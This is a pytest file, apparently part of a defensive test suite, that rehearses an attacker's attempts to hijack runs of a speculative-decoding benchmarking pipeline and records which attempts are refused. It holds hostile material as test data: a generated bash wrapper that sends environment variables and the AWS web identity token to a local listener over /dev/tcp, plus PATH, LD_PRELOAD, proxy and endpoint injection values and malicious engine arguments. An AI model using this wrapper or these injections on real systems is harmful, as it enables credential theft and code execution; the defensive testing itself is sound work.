@@ -1,0 +1,327 @@
+"""The attacker's rehearsal: what somebody tries who may start runs, and what of it arrives. Writes docs/security.md.
+
+Not part of `make test` (it takes some three minutes). Run it with
+
+    .venv/bin/pytest tests/rehearsal_attack.py
+"""
+
+from __future__ import annotations
+
+import contextlib
+import io
+import json
+import re
+import socketserver
+import subprocess
+import threading
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from rich.console import Console
+from specdecode import layout, names
+from specdecode.experiment import Experiment, load_engine, load_preset
+from specdecode.manifests.object_names import object_name
+from specdecode.planning import make_plan, needed_prefixes, read_inventory
+from specdecode.runs.state import RunState
+
+from rehearsal import tools
+from rehearsal.console import Progress
+from rehearsal.execution import Run
+from rehearsal.rehearse import rehearsal
+from tests.network import reaches
+from tests.pods import containers
+from tests.rehearsal_cloud import PATIENT, SMALL, Cloud
+
+pytestmark = pytest.mark.timeout(600)
+PAGE = Path(__file__).resolve().parents[1] / "docs" / "security.md"
+BEGIN, END = "<!-- attacks: written by tests/rehearsal_attack.py -->", "<!-- end of attacks -->"
+HEAD = ["| experiment | what he tried | answer | what arrived at his server |", "|---|---|---|---|"]
+OUTSIDE = "203.0.113.7"
+"""Where his server would be, seen from AWS (TEST-NET-3)."""
+
+
+@dataclass
+class Attacker:
+    """His server, which keeps whatever arrives, and the folder with his programs."""
+
+    folder: Path
+    port: int = 0
+    arrived: list[bytes] = field(default_factory=list)
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self.port}"
+
+    @property
+    def marks(self) -> list[str]:
+        """Files that his code left where it ran."""
+        return sorted(path.name for path in self.folder.glob("ran-*"))
+
+    def program(self, name: str) -> None:
+        """A program of that name that tells his server all it sees, leaves a mark, and becomes the real one."""
+        path = self.folder / "bin" / name
+        path.parent.mkdir(exist_ok=True)
+        path.write_text(
+            f"""#!/bin/bash
+touch "{self.folder}/ran-{name}-$HOSTNAME"
+exec 9<>/dev/tcp/127.0.0.1/{self.port}
+{{ echo "from $HOSTNAME"; env; cat "${{AWS_WEB_IDENTITY_TOKEN_FILE:-/dev/null}}"; }} >&9
+exec 9>&-
+PATH="${{PATH#*:}}"
+exec {name} "$@"
+"""
+        )
+        path.chmod(0o755)
+
+
+@pytest.fixture
+def attacker(tmp_path: Path) -> Iterator[Attacker]:
+    made = Attacker(tmp_path)
+
+    class Keep(socketserver.StreamRequestHandler):
+        def handle(self) -> None:
+            self.request.settimeout(5)
+            with contextlib.suppress(OSError):
+                received = b""
+                while chunk := self.request.recv(65536):
+                    received += chunk
+                made.arrived.append(received)
+                return
+            made.arrived.append(received or b"(a connection)")
+
+    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Keep) as server:
+        made.port = server.server_address[1]
+        thread = threading.Thread(target=server.serve_forever, daemon=True)
+        thread.start()
+        yield made
+        server.shutdown()
+
+
+@pytest.fixture(scope="module")
+def cloud() -> Iterator[Cloud]:
+    tools.check()
+    with rehearsal(Progress(console=Console(file=io.StringIO(), width=160))) as running:
+        running.deploy()
+        running.import_models(load_preset("rehearsal"))
+        made = Cloud(running)
+        yield made
+        lines = [*HEAD, *(f"| {' | '.join(cell.replace('|', '/') for cell in row)} |" for row in made.rows)]
+        before, _, rest = PAGE.read_text("utf-8").partition(BEGIN)
+        after = rest.partition(END)[2]
+        PAGE.write_text("".join([before, BEGIN, "\n\n", "\n".join(lines), "\n\n", END, after]), "utf-8")
+    assert running.left() == []
+    running.forget()
+
+
+def redirect(attacker: Attacker) -> dict[str, str]:
+    """Variables that would fetch other code and talk to other services."""
+    aws = {"AWS_ENDPOINT_URL": attacker.url, "AWS_ENDPOINT_URL_STS": attacker.url}
+    proxies = {"HTTPS_PROXY": attacker.url, "http_proxy": attacker.url}
+    return {"BUNDLE_URI": "s3://attacker/b.zip", "BUNDLE_SHA256": "0" * 64, **aws, **proxies, "POD_IP": "127.0.0.1"}
+
+
+def loaders(attacker: Attacker) -> dict[str, str]:
+    """Variables that would run his code in a program of ours."""
+    folder = str(attacker.folder)
+    return {"PATH": f"{folder}/bin", "PYTHONPATH": folder, "LD_PRELOAD": f"{folder}/evil.so", "VLLM_PLUGINS": "evil"}
+
+
+ARGUMENTS = [
+    *("evil/model", "--middleware", "evil.Middleware", "--midd=evil", "--worker_cls", "evil.Worker", "--trust-rem"),
+    *("--config=/tmp/evil.yaml", "--chat-template", "evil.jinja", "--hf-overrides", '{"auto_map": {}}'),
+]
+CONFIG = {"attn_cls": "evil.Attention", "quantized_checkpoints_path": "/tmp/evil"}
+PROMPTS = {"name": "own", "label": "own", "kind": "jsonl", "text": "/proc/self/environ", "structured": False}
+SAID = ("settable-variable", "settable-argument", "settable-configuration", "prompt-text")
+
+
+def document(attacker: Attacker) -> dict[str, Any]:
+    """All of it in one experiment."""
+    return {
+        "extends": "rehearsal",
+        "name": "attack",
+        "serving": {"env": redirect(attacker), "extra_args": ARGUMENTS, "neuron_config": CONFIG},
+        "variants": [
+            {"name": "base", "label": "Base", "env": loaders(attacker)},
+            {**load_preset("rehearsal").variant("sd").model_dump(mode="json"), "env": {"https_proxy": attacker.url}},
+        ],
+        "workload": {"cases": [PROMPTS, "count"]},
+    }
+
+
+def every_problem(said: str, attacker: Attacker) -> None:
+    """The one message has all rules that were broken, and counts every problem of theirs."""
+    assert all(f"({rule})" in said for rule in SAID), said
+    wrong = len(redirect(attacker)) + len(loaders(attacker)) + 1 + 8 + len(CONFIG) + 1
+    counted = re.search(r"([0-9]+) problems in the experiment", said)
+    assert counted, said
+    assert int(counted[1]) == wrong, said
+
+
+def nothing_came_of_it(cloud: Cloud, attacker: Attacker) -> str:
+    assert attacker.arrived == [] and attacker.marks == []
+    assert cloud.workloads() == [] and cloud.running.replicas() == 0
+    return "nothing"
+
+
+def refused(cloud: Cloud, run: Run, attacker: Attacker) -> None:
+    end = cloud.ended(run)
+    assert (end.status, end.error) == ("FAILED", "InvalidExperiment"), end.cause
+    every_problem(end.cause or "", attacker)
+
+
+WHAT = "another bundle, endpoints, proxies, loaders, `--middleware`, abbreviations, `attn_cls`, `/proc/…` as prompts"
+
+
+def specdecode(cloud: Cloud, *arguments: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [tools.ROOT / ".venv" / "bin" / "specdecode", *arguments],
+        env=tools.environment(tools.aws_environment(cloud.running.services.endpoint)),
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=False,
+    )
+
+
+def test_by_a_file(cloud: Cloud, attacker: Attacker, tmp_path: Path) -> None:
+    path = tmp_path / "attack.yaml"
+    path.write_text(yaml.safe_dump(document(attacker)))
+    ended = specdecode(cloud, "run", str(path), "--yes")
+    assert ended.returncode == 2
+    every_problem(" ".join(ended.stderr.split()), attacker)
+    cloud.rows.append(("a file", WHAT, "refused by the command line", nothing_came_of_it(cloud, attacker)))
+
+
+def test_by_overrides(cloud: Cloud, attacker: Attacker) -> None:
+    given = document(attacker)
+    changes = {
+        "serving.env": given["serving"]["env"],
+        "serving.extra_args": ARGUMENTS,
+        "serving.neuron_config": CONFIG,
+        "variants.base.env": loaders(attacker),
+        "variants.sd.env": {"https_proxy": attacker.url},
+        "workload.cases": [PROMPTS, "count"],
+    }
+    words = [word for path, value in changes.items() for word in ("--set", f"{path}={json.dumps(value)}")]
+    ended = specdecode(cloud, "run", "rehearsal", *words, "--yes")
+    assert ended.returncode == 2
+    every_problem(" ".join(ended.stderr.split()), attacker)
+    cloud.rows.append(("`--set`", "the same", "refused by the command line", nothing_came_of_it(cloud, attacker)))
+
+
+def test_by_the_console(cloud: Cloud, attacker: Attacker) -> None:
+    refused(cloud, cloud.running.start("attack", {"experiment": document(attacker)}), attacker)
+    came = nothing_came_of_it(cloud, attacker)
+    cloud.rows.append(("the console's input", "the same", "refused by the pipeline (InvalidExperiment)", came))
+
+
+def test_by_resuming_what_an_older_version_let_in(cloud: Cloud, attacker: Attacker) -> None:
+    """The stored experiment of a run from before the rules, or one that somebody put there."""
+    plain = load_preset("rehearsal").model_dump(mode="json")
+    stored = {**plain, "serving": {**plain["serving"], **document(attacker)["serving"]}}
+    stored["variants"][0]["env"], stored["variants"][1]["env"] = loaders(attacker), {"https_proxy": attacker.url}
+    stored["workload"]["cases"][0] = PROMPTS
+    state = RunState(run_id="old", execution_arn="arn", experiment="rehearsal", started_at="2026-01-01T00:00:00Z")
+    s3, bucket = cloud.running.services.client("s3"), cloud.running.bucket
+    for name, body in (("experiment.yaml", yaml.safe_dump(stored)), ("state.json", state.model_dump_json())):
+        s3.put_object(Bucket=bucket, Key=layout.run_key("old", name), Body=body.encode())
+    refused(cloud, cloud.running.start("again", {"resume": "old"}), attacker)
+    came = nothing_came_of_it(cloud, attacker)
+    cloud.rows.append(("`--resume` of a stored one", "the same", "refused by the pipeline (InvalidExperiment)", came))
+
+
+def unruled(env: dict[str, str]) -> Experiment:
+    """The rehearsal's experiment with `env`, which no rule has seen."""
+    experiment = load_preset("rehearsal", overrides=SMALL | PATIENT)
+    return experiment.model_copy(update={"serving": experiment.serving.model_copy(update={"env": env})})
+
+
+def replaced_plan(cloud: Cloud, name: str, env: dict[str, str]) -> Run:
+    """A run whose plan is replaced, before anything is compiled, by that of an experiment without rules."""
+    cloud.forget("compiled/")
+    run = cloud.start(name, SMALL | PATIENT)
+    cloud.until_step(run, "AcquireCapacity")
+    experiment = unruled(env)
+    engine, s3, bucket = load_engine(experiment.engine), cloud.running.services.client("s3"), cloud.running.bucket
+    inventory = read_inventory(s3, bucket=bucket, prefixes=needed_prefixes(experiment, engine))
+    plan = make_plan(experiment, inventory=inventory, engine=engine)
+    s3.put_object(Bucket=bucket, Key=layout.run_key(run.run_id, "plan.json"), Body=plan.model_dump_json().encode())
+    return run
+
+
+def pods_of(cloud: Cloud, run: Run, component: str) -> list[dict[str, Any]]:
+    return cloud.until(lambda: cloud.pods(component), what=f"{component} pods of {run.run_id}")
+
+
+def test_without_rules_our_variables_win(cloud: Cloud, attacker: Attacker) -> None:
+    run = replaced_plan(cloud, "redirect", redirect(attacker))
+    for component in ("compile", "serving"):
+        for pod in pods_of(cloud, run, component):
+            for name, container in containers({"spec": pod["spec"]}).items():
+                values = {item["name"]: item.get("value", "") for item in container["env"]}
+                assert values["POD_IP"] == "" and values.get("HF_HUB_OFFLINE", "1") == "1"
+                if name in ("fetch", "store"):
+                    assert not [key for key, value in values.items() if "127.0.0.1" in value or "attacker" in value]
+    end = cloud.ended(run)
+    assert end.status == "SUCCEEDED", end.cause
+    cloud.at_rest()
+    came = nothing_came_of_it(cloud, attacker)
+    what = "other bundle, endpoints, proxies, address of the pod, in the engine's container alone"
+    cloud.rows.append(("rules off", what, "the run succeeds as if they were not there", came))
+
+
+def test_without_rules_his_code_finds_no_credentials_and_no_way_out(cloud: Cloud, attacker: Attacker) -> None:
+    attacker.program("python3")
+    attacker.program("vllm")
+    image = tools.IMAGE / "bin"
+    run = replaced_plan(cloud, "loader", {"PATH": f"{attacker.folder}/bin:{image}:/usr/bin:/bin"})
+    compiling = pods_of(cloud, run, "compile")[0]
+    serving = pods_of(cloud, run, "serving")[0]
+    policies = cloud.listed(f"/apis/networking.k8s.io/v1/namespaces/{names.NAMESPACE}/networkpolicies")
+    end = cloud.ended(run)
+    assert end.status == "SUCCEEDED", end.cause
+    cloud.at_rest()
+
+    assert attacker.marks, "the test's attacker must run where an engine runs, or this shows nothing"
+    text = b"".join(attacker.arrived)
+    assert attacker.arrived and b"PATH=" in text
+    for secret in (
+        b"AWS_ROLE_ARN",
+        b"AWS_WEB_IDENTITY",
+        b"eyJ",
+        b"AWS_SECRET",
+        b"BUCKET",
+        b"BUNDLE",
+        b"OPENAI_API_KEY",
+    ):
+        assert secret not in text, secret
+    senders = re.findall(r"^from (\S+)", text.decode(), re.MULTILINE)
+    assert {sender.startswith(object_name(run.run_id)) for sender in senders} == {True}
+    for pod, engine in ((compiling, "compile"), (serving, "main")):
+        for name, container in containers({"spec": pod["spec"]}).items():
+            mounts = {mount["name"] for mount in container["volumeMounts"]}
+            assert ("aws-iam-token" in mounts) is (name != engine), (name, mounts)
+    labels = serving["metadata"]["labels"]
+    assert not any(reaches(policies, labels, OUTSIDE, port) for port in (443, 80, 53, attacker.port))
+    labels = compiling["metadata"]["labels"]
+    assert not any(reaches(policies, labels, OUTSIDE, port) for port in (80, 53, attacker.port))
+    assert not any(reaches(policies, labels, inside, 443) for inside in ("10.0.0.9", "172.20.0.1", "169.254.169.254"))
+    came = (
+        "variables of the engine's container: no role, no token, no bucket; a server's own key of that wave. On EKS a "
+    )
+    came += "server's pod reaches nobody, a compile pod public HTTPS alone"
+    cloud.rows.append(
+        ("rules off", "`PATH` with his `python3` and `vllm`", "his code runs where the engine runs", came)
+    )
+
+
+def test_the_rules_are_what_was_switched_off() -> None:
+    """The same variables in an experiment that goes through them are refused."""
+    with pytest.raises(ValueError, match="settable-variable"):
+        load_preset("rehearsal", overrides={"serving.env": {"PATH": "/x"}})
+    assert unruled({"PATH": "/x"}).serving.env == {"PATH": "/x"}
